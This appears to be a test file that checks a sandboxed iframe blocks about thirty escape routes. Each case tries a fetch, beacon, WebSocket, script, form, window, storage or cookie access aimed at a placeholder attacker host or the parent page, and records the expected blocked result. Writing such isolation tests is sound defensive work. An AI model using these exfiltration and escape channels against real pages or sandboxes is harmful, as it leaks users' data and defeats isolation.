//: fetch
return await fetch("{attacker}?frame-fetch").then(() => "open");
//> raises TypeError: Failed to fetch
//: WebSocket
const socket = new WebSocket("{attacker}?frame-ws".replace("http", "ws"));
return await new Promise((resolve) => {
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
});
//> gives refused
//: a beacon
navigator.sendBeacon("{attacker}?frame-beacon", "x");
return "nothing at the server";
//> gives nothing at the server
//: a picture
return await element("img", { src: "{attacker}?frame-img" });
//> gives refused
//: a style sheet
return await element("link", { rel: "stylesheet", href: "{attacker}?frame-css" });
//> gives refused
//: a style with a picture
document.body.append(Object.assign(document.createElement("style"),
    { textContent: "html { color: red; background: url({attacker}?frame-style) }" }));
return getComputedStyle(document.documentElement).color;
//> gives rgb(0, 0, 0)
//: a style by script with a picture
document.body.style.backgroundImage = "url({attacker}?frame-cssom)";
return "nothing at the server";
//> gives nothing at the server
//: a script
return await element("script", { src: "{attacker}?frame-script" });
//> gives refused
//: an inline script
window.taken = 0;
document.body.append(Object.assign(document.createElement("script"), { textContent: "window.taken = 1" }));
return window.taken;
//> gives 0
//: an event handler
window.taken = 0;
const button = document.createElement("button");
button.setAttribute("onclick", "window.taken = 1");
button.click();
return window.taken;
//> gives 0
//: eval
return eval("1 + 1");
//> raises EvalError: *
//: media
return await element("video", { src: "{attacker}?frame-video" });
//> gives refused
//: a plug-in
return await element("object", { data: "{attacker}?frame-object" });
//> gives no answer
//: a prefetched page
document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "{attacker}?frame-prefetch" }));
return "nothing at the server";
//> gives nothing at the server
//: a frame within the frame
document.body.append(Object.assign(document.createElement("iframe"), { src: "{attacker}?frame-frame" }));
return "nothing at the server";
//> gives nothing at the server
//: a form
const form = Object.assign(document.createElement("form"), { action: "{attacker}?frame-form", method: "post" });
document.body.append(form);
form.submit();
return "nothing at the server";
//> gives nothing at the server
//: a link that is clicked in a new window
const link = Object.assign(document.createElement("a"), { href: "{attacker}?frame-link", target: "_blank" });
document.body.append(link);
link.click();
return "nothing at the server";
//> gives nothing at the server
//: a window
return window.open("{attacker}?frame-window");
//> gives null
//: the page's address
top.location = "{attacker}?frame-top";
return "open";
//> raises SecurityError: *
//: the page's document
return parent.document.title;
//> raises SecurityError: *
//: the page's exports
return parent.wasmBindings;
//> raises SecurityError: *
//: the element that it is in
return window.frameElement;
//> gives null
//: the page's address, with the question in it, by the referrer
return document.referrer;
//> gives 
//: localStorage
return localStorage.length;
//> raises SecurityError: *
//: sessionStorage
return sessionStorage.length;
//> raises SecurityError: *
//: cookies
return document.cookie;
//> raises SecurityError: *
//: indexedDB
indexedDB.open("agent");
return "open";
//> raises SecurityError: *
//: a worker of the attacker's
new Worker("{attacker}?frame-worker");
return "open";
//> raises SecurityError: *
//: a service worker
return navigator.serviceWorker ? await navigator.serviceWorker.register("{attacker}?sw").then(() => "open") : "not there";
//> raises SecurityError: *
//: a question to the user
return [window.prompt("key?"), window.confirm("sure?")];
//> gives ,false
//: the clipboard
return await navigator.clipboard?.readText();
//> raises NotAllowedError: *
//: full screen
return await document.documentElement.requestFullscreen().then(() => "open");
//> raises TypeError: *
//: an origin of its own
return self.origin;
//> gives null
//: leaving for another address
location.href = "{attacker}?frame-location";
return "nothing at the server";
//> gives nothing at the server
